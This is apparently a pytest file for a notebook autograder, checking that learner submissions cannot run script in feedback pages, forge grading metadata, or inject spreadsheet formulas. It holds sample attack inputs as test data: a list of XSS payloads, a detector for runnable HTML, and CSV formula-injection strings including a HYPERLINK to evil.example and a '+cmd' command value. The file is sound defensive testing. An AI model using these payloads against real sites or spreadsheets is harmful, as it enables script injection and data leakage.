"""Learner text is data everywhere it is shown: no learner script runs in a feedback page or the formgrader,
no learner metadata is read as the grader's, no learner string becomes Markdown or a spreadsheet formula.

Fast tests break each defence on its own: the sanitiser (autograder/grading/sanitise.py) on every output
MIME type and on markdown, the feedback exporter, TrustedExecute dropping ``nncourse_grading`` metadata,
the class report reading grade cells only and escaping its Markdown and CSV. The slow test grades a hostile
submission beside a correct one through ``python -m autograder grade`` and ``feedback``.
"""
from __future__ import annotations

import csv
import functools
import json
import re
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from autograder.classroom import class_report
from autograder.classroom.feedback import OfflineFeedbackExporter
from autograder.grading import sanitise
from autograder.grading.sanitise import SanitiseLearnerOutputs, clean_html, safe_markdown_source, sanitise_output
from autograder.learner.api import GRADE_MIME

PWNED = "window.__pwned=1;document.title='pwned'"
HOSTILE_HTML = [
    f"<script>{PWNED}</script>",
    f'<img src=x onerror="{PWNED}">',
    f'<a href="javascript:{PWNED}">click</a>',
    f'<a href="jav&#x61;script:{PWNED}">click</a>',
    f'<iframe srcdoc="<script>{PWNED}</script>"></iframe>',
    f'<svg onload="{PWNED}"><script>{PWNED}</script></svg>',
    f'<math><mtext><img src=x onerror="{PWNED}"></mtext></math>',
    f'<object data="javascript:{PWNED}"></object><embed src="javascript:{PWNED}">',
    f'<form action="javascript:{PWNED}"><button>go</button></form>',
    f'<style>@import "javascript:{PWNED}";</style><div style="background:url(javascript:{PWNED})">x</div>',
    f'<a href="data:text/html,<script>{PWNED}</script>">d</a>',
    f'<details open ontoggle="{PWNED}">x</details>',
    f'<p title="</p><img src=x onerror={PWNED}>">mutation</p>',
]
HARMLESS_HTML = ('<table border="1" class="dataframe"><thead><tr><th>loss</th></tr></thead>'
                 '<tbody><tr><td><b>0.25</b></td></tr></tbody></table>')


# -- what "could run" means, for every test ---------------------------------------------------------
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc")
ACTIVE_TAGS = ("script", "iframe", "object", "embed", "svg", "form", "base", "meta", "frame", "frameset")


def _runnable(tag) -> list[str]:
    """What in this one element could run script: an active element, an event handler, a script URL."""
    found = []
    if tag.name in ACTIVE_TAGS or (tag.name == "style" and "javascript" in (tag.string or "")):
        found.append(f"<{tag.name}>")
    for name, value in tag.attrs.items():
        value = " ".join(value) if isinstance(value, list) else str(value)
        if name.lower().startswith("on"):
            found.append(f"{tag.name} {name}=")
        elif re.search(r"(javascript|vbscript):", value, re.I) or (
                name.lower() in URL_ATTRIBUTES and re.match(r"\s*data:text", value, re.I)):
            found.append(f"{tag.name} {name}={value[:30]}")
    return found


def executable_parts(page: str) -> list[str]:
    """Whatever in HTML could run script. In a whole page (nbconvert's, with its own scripts and styles)
    every notebook cell is searched, and the whole page for event handlers and the learner's marker."""
    soup = BeautifulSoup(page, "html.parser")
    cells = soup.select("div.cell, div.jp-Cell")
    found = [part for scope in (cells or [soup]) for tag in scope.find_all(True) for part in _runnable(tag)]
    found += [f"{tag.name} {name}=" for tag in soup.find_all(True) for name in tag.attrs if name.startswith("on")]
    found += ["a script with the learner's marker" for tag in soup("script") if "pwned" in (tag.string or "")]
    return found


def test_the_check_itself_sees_every_hostile_fragment():
    for fragment in HOSTILE_HTML[:-1]:  # the last one only runs when re-serialised wrongly
        assert executable_parts(fragment), fragment


# -- the sanitiser, by MIME type --------------------------------------------------------------------
def display(data: dict, metadata: dict | None = None) -> NotebookNode:
    return new_output("display_data", data=data, metadata=metadata or {})


@functools.lru_cache(maxsize=1)
def _exporter() -> HTMLExporter:
    return HTMLExporter(template_name="classic")


def rendered(outputs: list) -> str:
    """The HTML nbconvert's classic template (as in nbgrader's feedback) writes for these outputs."""
    nb = new_notebook(cells=[new_code_cell("x", outputs=outputs)])
    page, _ = _exporter().from_notebook_node(nb)
    return page


@pytest.mark.parametrize("fragment", HOSTILE_HTML)
@pytest.mark.parametrize("mime", ["text/html", "text/markdown", "image/svg+xml", "application/javascript",
                                  "text/javascript", "application/vnd.jupyter.widget-view+json", "image/png"])
def test_no_hostile_output_survives_in_any_mime_type(mime, fragment):
    value = PWNED if "javascript" in mime else fragment
    output = sanitise_output(display({mime: value, "text/plain": "<IPython.core.display.HTML object>"}))
    assert not executable_parts(rendered([output])), (mime, output)
    assert "javascript" not in "".join(output.data) and "svg" not in "".join(output.data)


def test_without_the_sanitiser_the_check_fails():
    """The rendering test is not vacuous: unsanitised, the same outputs would run."""
    for mime, value in (("text/html", HOSTILE_HTML[0]), ("application/javascript", PWNED),
                        ("text/markdown", f"[x](javascript:{PWNED})")):
        assert executable_parts(rendered([display({mime: value})])), mime


def test_output_metadata_cannot_reach_the_page():
    png = "iVBORw0KGgo="
    output = sanitise_output(display({"image/png": png, "text/html": "<b>plot</b>"},
                                     {"image/png": {"width": f"1 onerror={PWNED}", "height": 120},
                                      "text/html": {"isolated": True}, "filenames": {"image/png": "/etc/passwd"}}))
    assert output.metadata == {"image/png": {"height": 120}}
    assert not executable_parts(rendered([output]))
    assert sanitise_output(display({"image/png": '" onerror="alert(1)'})).data.keys() == {"text/plain"}


def test_harmless_html_and_the_trusted_report_are_kept():
    html = sanitise_output(display({"text/html": HARMLESS_HTML}))
    assert html.data["text/html"] == HARMLESS_HTML
    report = {"text/plain": "Exercise 01.neuron: 2 / 2 points\nAll correct.", GRADE_MIME: {"points": 2.0}}
    trusted = [display(report), new_output("execute_result", data={"text/plain": "2.0"}, execution_count=3)]
    assert sanitise.sanitise_outputs(trusted) == trusted
    stream = new_output("stream", name="stdout", text=f"<script>{PWNED}</script>")
    assert sanitise_output(stream) == stream and not executable_parts(rendered([stream]))


def test_removed_types_say_so_in_plain_text():
    output = sanitise_output(display({"application/javascript": PWNED}))
    assert output.data == {"text/plain": "[output removed: application/javascript could run code in the reader's "
                                         "browser]"}


def test_math_survives_the_cleaner():
    mathml = ('<math display="block"><mrow><mfrac><mn>1</mn><mi>N</mi></mfrac><mspace width="2em"></mspace>'
              '<mtext>loss</mtext></mrow></math>')
    assert clean_html(mathml) == mathml


# -- markdown ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("markdown", [*HOSTILE_HTML[:-1], f"[click](javascript:{PWNED})", f"<javascript:{PWNED}>",
                                      f"![x](javascript:{PWNED})"])
def test_hostile_markdown_is_shown_as_its_text(markdown):
    safe = safe_markdown_source(markdown)
    assert safe != markdown and markdown in safe
    assert not executable_parts(markdown2html_mistune(safe))


@pytest.mark.parametrize("markdown", ["My answer: **ReLU**, because $\\max(0, z) > 0$ & it's cheap.",
                                      "| a | b |\n|---|---|\n| 1 | 2 |", "line<br>two <sub>2</sub>",
                                      "```python\nx = 1 < 2\n```", "[docs](https://numpy.org) ![plot](plot.png)"])
def test_harmless_markdown_is_left_as_written(markdown):
    assert safe_markdown_source(markdown) == markdown


def test_the_preprocessor_cleans_learner_cells_and_leaves_locked_ones():
    locked = new_markdown_cell('<iframe src="https://www.youtube.com/embed/x"></iframe>',
                               metadata={"nbgrader": {"locked": True, "grade_id": "intro", "solution": False,
                                                      "grade": False}})
    learner = new_markdown_cell(HOSTILE_HTML[1])
    code = new_code_cell("x", outputs=[display({"text/html": HOSTILE_HTML[0]})])
    nb = new_notebook(cells=[locked, learner, code], metadata={"widgets": {"state": {}}})
    nb, _ = SanitiseLearnerOutputs().preprocess(nb, {})
    assert nb.cells[0].source == locked.source
    assert nb.cells[1].source.startswith(sanitise.MARKDOWN_NOTE)
    assert not executable_parts(nb.cells[2].outputs[0].data["text/html"])
    assert "widgets" not in nb.metadata


def test_the_feedback_exporter_cleans_markdown_and_keeps_mathml():
    nb = new_notebook(cells=[new_markdown_cell(f"Loss $\\frac{{1}}{{N}}$ {HOSTILE_HTML[1]} {HOSTILE_HTML[0]}")])
    page, _ = OfflineFeedbackExporter(template_name="classic").from_notebook_node(nb)
    assert "<mfrac>" in page
    assert not executable_parts(page)


# -- nncourse_grading metadata is the grader's ------------------------------------------------------
def _cell(kind: str, grading: dict | None = None, source: str = "") -> NotebookNode:
    nbgrader = {"grade": kind == "grade", "solution": kind == "solution", "locked": kind == "grade",
                "grade_id": f"{kind}_{source or 'x'}", "points": 2}
    metadata = {"nbgrader": nbgrader, **({"nncourse_grading": grading} if grading else {})}
    return new_code_cell(source, metadata=metadata)


FAKE = {"exercise": "01.neuron", "points": 100.0, "max_points": 2.0, "status": "passed",
        "mistakes": ["<script>alert(1)</script>"], "flags": []}
REAL = {"exercise": "01.neuron", "points": 0.0, "max_points": 2.0, "status": "failed",
        "mistakes": ["forgot the bias"], "flags": []}


def test_the_class_report_reads_grade_cells_only():
    nb = new_notebook(cells=[_cell("solution", FAKE, "a"), _cell("grade", REAL, "b"), _cell("", FAKE, "c")],
                      metadata={"nncourse_grading": "not a dict"})
    assert [e["mistakes"] for e in class_report.graded_exercises(nb)] == [["forgot the bias"]]
    assert class_report.notebook_grading(nb) == {}


def test_trusted_execute_drops_learner_metadata_before_running(monkeypatch, tmp_path):
    from autograder.grading.trusted import TrustedExecute

    seen = {}

    def run_all(self):
        seen["cells"] = [dict(c.metadata) for c in self.nb.cells]
        seen["nb"] = dict(self.nb.metadata)

    monkeypatch.setattr(TrustedExecute, "_run_all", run_all)
    monkeypatch.chdir(tmp_path)
    nb = new_notebook(cells=[_cell("solution", FAKE, "a")], metadata={"nncourse_grading": {"flags": ["fake"]}})
    nb, _ = TrustedExecute(use_course_secret=False).preprocess(nb, {})
    assert all("nncourse_grading" not in metadata for metadata in seen["cells"])
    assert "nncourse_grading" not in seen["nb"]
    assert "nncourse_grading" not in nb.cells[0].metadata and nb.metadata["nncourse_grading"]["flags"] == []


# -- the class report's files -----------------------------------------------------------------------
HOSTILE_ID = '=HYPERLINK("https://evil.example/?"&A1,"click")'
HOSTILE_RESULTS = [
    {"student": HOSTILE_ID, "assignment": "01_neurons_and_parameters", "score": 1.0, "max_score": 10.0,
     "status": "graded", "reasons": ["+cmd|' /C calc'!A0"], "flags": ["@SUM(1+1)"],
     "exercises": [{"id": "01.neuron", "points": 0.0, "max_points": 2.0, "status": "failed",
                    "mistakes": ["-2+3", "\tTAB", "\rCR"], "flags": []}]},
    {"student": "<img src=x onerror=alert(1)>[click](javascript:alert(1))", "assignment": "01_neurons_and_parameters",
     "score": 0.0, "max_score": 10.0, "status": "not graded", "reasons": ["**bold** `code` $x$ | pipe"],
     "exercises": []},
]


def test_csv_cells_never_start_a_formula(tmp_path):
    class_report.write_report(HOSTILE_RESULTS, tmp_path)
    for name in ("students.csv", "exercises.csv", "flagged.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    with open(tmp_path / "students.csv", newline="", encoding="utf-8") as f:
        rows = {row["score"]: row for row in csv.DictReader(f)}
    assert rows["1"]["student"] == "'" + HOSTILE_ID and rows["1"]["reasons"] == "'+cmd|' /C calc'!A0"


def test_summary_markdown_shows_learner_text_as_text(tmp_path):
    class_report.write_report(HOSTILE_RESULTS, tmp_path)
    page = markdown2html_mistune((tmp_path / "summary.md").read_text(encoding="utf-8"))
    soup = BeautifulSoup(page, "html.parser")
    assert not executable_parts(page)
    assert not soup.find_all("img", src="x") and all(a["href"].startswith("#") or a["href"].endswith((".csv", ".png"))
                                                for a in soup.find_all("a"))
    assert "<img src=x onerror=alert(1)>[click](javascript:alert(1))" in soup.get_text()
    assert "**bold** `code` $x$ | pipe" in soup.get_text()


def test_markdown_text_and_spreadsheet_text():
    assert class_report.markdown_text("a_b *c* [d](e) <f> & | `g`\nh https://x.y") == \
        "a\\_b \\*c\\* \\[d\\]\\(e\\) &lt;f&gt; &amp; \\| \\`g\\` h https\\://x.y"
    assert [class_report.spreadsheet_text(v) for v in ("=1", "+1", "-1", "@1", "\t1", "\r1", "ok", 3.5, "")] == \
        ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", "ok", 3.5, ""]


# -- end to end: a hostile submission through python -m autograder grade ----------------------------
HOSTILE_DISPLAYS = f'''
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>{PWNED}</script><img src=x onerror=\\"{PWNED}\\"><b>bold is fine</b>"))
display(Javascript("{PWNED}"))
display(SVG(\'\'\'<svg xmlns="http://www.w3.org/2000/svg"><script>{PWNED}</script></svg>\'\'\'))
display(Markdown("[click me](javascript:{PWNED})"))
display({{"text/html": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'}}, raw=True)
'''
HOSTILE_MARKDOWN = f'My notes <img src=x onerror="{PWNED}"> [more](javascript:{PWNED})'
FAKE_MISTAKE = "fake mistake from the learner"


def _hostile(released: nbformat.NotebookNode, solutions: dict) -> nbformat.NotebookNode:
    """The released notebook solved with ``solutions``, every solution cell also displaying hostile HTML and
    carrying fake grading metadata, the notebook claiming flags, plus a markdown cell of hostile HTML."""
    from tests.fixtures import class_fixture as fixture

    nb = fixture.solved(released, fixture.Submission(solutions, fixture.Expected(0)))
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
            cell.source += "\n" + HOSTILE_DISPLAYS
            cell.metadata["nncourse_grading"] = dict(FAKE, mistakes=[FAKE_MISTAKE])
    nb.metadata["nncourse_grading"] = {"flags": [], "events": [], "isolation": "namespace"}
    nb.cells.insert(1, new_markdown_cell(HOSTILE_MARKDOWN))
    return nb


@pytest.fixture(scope="session")
def hostile_course(tmp_path_factory):
    """A course where ``hostile`` (one catalogued mistake, plus hostile displays, markdown and metadata),
    ``twin`` (the same honest work, nothing hostile) and ``neighbour`` (correct, 10 points) hand in
    assignment 01; graded and with feedback written, by the CLI."""
    from tests.fixtures import class_fixture as fixture
    from tests.fixtures import submissions_01
    from tests.test_class_grading import autograder, make_course

    outside = tmp_path_factory.mktemp("hostile-class")
    root = make_course(outside, assignments=("01",))
    released = nbformat.read(root / "release" / fixture.A1 / fixture.NOTEBOOK[fixture.A1], as_version=4)
    honest = {"hostile": submissions_01.ONE_MISTAKE, "twin": submissions_01.ONE_MISTAKE,
              "neighbour": fixture.CORRECT_1}
    for student, solutions in honest.items():
        nb = fixture.solved(released, fixture.Submission(solutions, fixture.Expected(0)))
        nb = _hostile(released, solutions) if student == "hostile" else nb
        folder = root / "submitted" / student / fixture.A1
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / fixture.NOTEBOOK[fixture.A1])
    autograder("grade", "--course", str(root), "--workers", "2", cwd=outside)
    autograder("feedback", "--course", str(root), cwd=outside)
    return root


def _report_rows(root: Path, name: str) -> list[dict]:
    with open(root / "reports" / name, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.mark.slow
def test_a_hostile_submission_is_data_from_grading_to_feedback(hostile_course):
    from tests.fixtures import class_fixture as fixture

    root = hostile_course
    students = {row["student"]: row for row in _report_rows(root, "students.csv")}
    assert 5 < float(students["twin"]["score"]) < 10
    assert students["hostile"]["score"] == students["twin"]["score"]  # its honest work, not what it claimed
    assert float(students["neighbour"]["score"]) == pytest.approx(10.0)
    exercises = _report_rows(root, "exercises.csv")
    assert exercises and all(row["submissions"] == "3" for row in exercises)  # 3 students, 3 submissions each
    report = "".join((root / "reports" / name).read_text(encoding="utf-8") for name in ("summary.md", "exercises.csv"))
    assert FAKE_MISTAKE not in report and "<script>" not in report

    autograded = nbformat.read(root / "autograded" / "hostile" / fixture.A1 / fixture.NOTEBOOK[fixture.A1],
                               as_version=4)
    outputs = [o for c in autograded.cells if c.cell_type == "code" for o in c.get("outputs", [])]
    shown = [o.data for o in outputs if "data" in o]
    assert any("bold is fine" in d.get("text/html", "") for d in shown), "the learner's harmless HTML is kept"
    assert not any(mime in d for d in shown for mime in ("application/javascript", "image/svg+xml"))
    assert not [d for d in shown if executable_parts(d.get("text/html", ""))]
    fakes = [c for c in autograded.cells if c.metadata.get("nncourse_grading", {}).get("mistakes") == [FAKE_MISTAKE]]
    assert not fakes
    assert any(c.source.startswith(sanitise.MARKDOWN_NOTE) for c in autograded.cells if c.cell_type == "markdown")

    (page,) = (root / "feedback" / "hostile" / fixture.A1).glob("*.html")
    html = page.read_text(encoding="utf-8")
    assert not executable_parts(html), executable_parts(html)
    assert "bold is fine" in html and "<math" in html  # learner HTML and course math still shown
    assert json.dumps(PWNED)[1:-1] not in "".join(s.string or "" for s in BeautifulSoup(html, "html.parser")("script"))
